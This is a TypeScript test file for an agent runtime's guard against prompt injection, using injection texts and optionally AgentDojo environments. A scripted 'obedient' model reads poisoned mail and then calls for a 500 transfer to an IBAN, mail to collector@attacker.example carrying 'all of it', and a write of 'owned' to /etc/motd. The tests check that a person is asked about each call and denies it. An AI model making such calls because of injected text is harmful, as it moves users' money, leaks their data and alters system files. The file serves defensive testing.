import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { LedgerRecord } from '../../../core/index.ts';
import type { ApprovalAnswer, CapabilityDefinition, Runtime } from '../../../workers/api.ts';
import { fromScript } from '../../../workers/node.ts';
import { openRuntime } from '../shared.ts';
import { INJECTIONS } from './injections.ts';

const SUITES = join(process.env['SALLYPORT_SUITES'] ?? '', 'agentdojo/src/agentdojo/data/suites');
const hasSuites = process.env['SALLYPORT_SUITES'] !== undefined && existsSync(SUITES);
if (!hasSuites)
  console.info('SALLYPORT_SUITES is not set: AgentDojo environments are left out, our own injections run.');

/** The texts that the agent reads: each slot of each environment, filled with an injection. */
function poisoned(): string[] {
  if (!hasSuites) return [];
  const files = readdirSync(SUITES, { recursive: true, encoding: 'utf8' }).map((file) => join(SUITES, file));
  const texts = files.filter((file) => statSync(file).isFile() && !file.endsWith('injection_vectors.yaml'));
  return texts.flatMap((file, at) => {
    const text = readFileSync(file, 'utf8');
    const slots = [...text.matchAll(/\{(\w*injection\w*)\}/g)];
    return slots.map(({ index }, slot) => around(text, index, INJECTIONS[(at + slot) % INJECTIONS.length] ?? ''));
  });
}

function around(text: string, slot: number, injection: string): string {
  return `${text.slice(Math.max(0, slot - 600), slot)}${injection}${text.slice(slot, slot + 200)}`;
}

const TEXTS = [...INJECTIONS, ...poisoned()];

const object = (...names: string[]) => ({
  type: 'object',
  required: names,
  additionalProperties: false,
  properties: Object.fromEntries(names.map((name) => [name, { type: ['string', 'number'] }])),
});
const capability = (
  name: string,
  effect: CapabilityDefinition['effect'],
  source: string,
  ...args: string[]
): CapabilityDefinition => ({
  name,
  version: '1.0.0',
  description: name,
  effect,
  args: object(...args),
  source,
});

const CAPABILITIES = [
  capability(
    'mail.read',
    'read',
    `const TEXTS = ${JSON.stringify(TEXTS)};\nexport default ({ at }) => ({ text: TEXTS[at] });`,
    'at',
  ),
  capability('mail.send', 'egress', 'export default () => ({ sent: true });', 'to', 'body'),
  capability('pay.transfer', 'egress', 'export default () => ({ paid: true });', 'to', 'amount'),
  capability('file.write', 'write', 'export default () => ({ written: true });', 'path', 'text'),
];
/** The worst case: all capabilities are allowed, so that only the guard stands between the text and the effect. */
const GRANTS = CAPABILITIES.map(({ name }) => ({ capability: name, mode: 'allow' as const }));

const call = (tool: string, args: object) => ({ tool_call: { tool, args } });
/** A model that obeys each instruction in the text that it has read. */
const obedient = (at: number) =>
  fromScript([
    call('mail.read', { at }),
    call('pay.transfer', { to: 'UK12345678901234567890', amount: 500 }),
    call('mail.send', { to: 'collector@attacker.example', body: 'all of it' }),
    call('file.write', { path: '/etc/motd', text: 'owned' }),
    { message: { content: 'Done as the note said.' } },
  ]);

const ofKind = <K extends LedgerRecord['kind']>(records: readonly LedgerRecord[], kind: K) =>
  records.filter((record): record is Extract<LedgerRecord, { kind: K }> => record.kind === kind);

async function obey(runtime: Runtime, at: number): Promise<readonly LedgerRecord[]> {
  const run = runtime.start({ dialect: 'femtoclaw', task: 'Summarise my mail.', model: obedient(at) });
  expect(await run.result).toMatchObject({ state: 'completed', steps: 5 });
  return runtime.ledger.records(run.id);
}

describe('a model that obeys every injection', () => {
  const asked: string[] = [];
  const approve = async ({ capability: name }: { capability: string }): Promise<ApprovalAnswer> => {
    asked.push(name);
    return { approved: false, reason: 'I did not ask for this.' };
  };
  let runtime: Runtime;
  beforeAll(async () => {
    runtime = await openRuntime({ capabilities: CAPABILITIES, grants: GRANTS, approve });
  });
  afterAll(() => runtime.close());

  test(`the guard puts each call of ${TEXTS.length} poisoned texts to a person, and no effect starts`, async () => {
    let effects = 0;
    for (let at = 0; at < TEXTS.length; at++) {
      const records = await obey(runtime, at);
      effects += ofKind(records, 'intent').length;
      const codes = ofKind(records, 'receipt').map(({ body }) => body.evidence.reason?.code ?? 'SUCCESS');
      expect(codes).toEqual(['SUCCESS', 'approval_denied', 'approval_denied', 'approval_denied', 'SUCCESS']);
      const whys = ofKind(records, 'decision').map(({ body }) => body.why);
      expect(whys).toEqual([undefined, 'private_and_untrusted', 'private_and_untrusted', 'untrusted']);
    }
    console.info(`effects nobody asked for: ${effects} of ${TEXTS.length * 3}`);
    expect(effects).toBe(0);
    expect(asked).toHaveLength(TEXTS.length * 3);
  }, 120_000);
});

test('without the guard, the calls of a model that obeys an injection start their effects', async () => {
  const runtime = await openRuntime({ capabilities: CAPABILITIES, grants: GRANTS, guard: false });
  expect(ofKind(await obey(runtime, 0), 'intent')).toHaveLength(3);
  await runtime.close();
});

test('a standing approval covers writing after reading, but never sending private content', async () => {
  const runtime = await openRuntime({
    capabilities: CAPABILITIES,
    grants: GRANTS,
    approve: async () => ({ approved: true, standing: { args: 'any' } }),
  });
  const send = call('mail.send', { to: 'a@example', body: 'b' });
  const write = call('file.write', { path: '/a', text: 'b' });
  const model = fromScript([call('mail.read', { at: 0 }), write, write, send, send, { message: { content: '' } }]);
  const run = runtime.start({ dialect: 'femtoclaw', task: 'Go.', model });
  await run.result;
  const decisions = ofKind(await runtime.ledger.records(run.id), 'decision').map(({ body }) => body.decision);
  const asking = ['REQUIRES_APPROVAL', 'AUTHORIZED'];
  expect(decisions).toEqual(['AUTHORIZED', ...asking, 'AUTHORIZED', ...asking, ...asking]);
  await runtime.close();
});
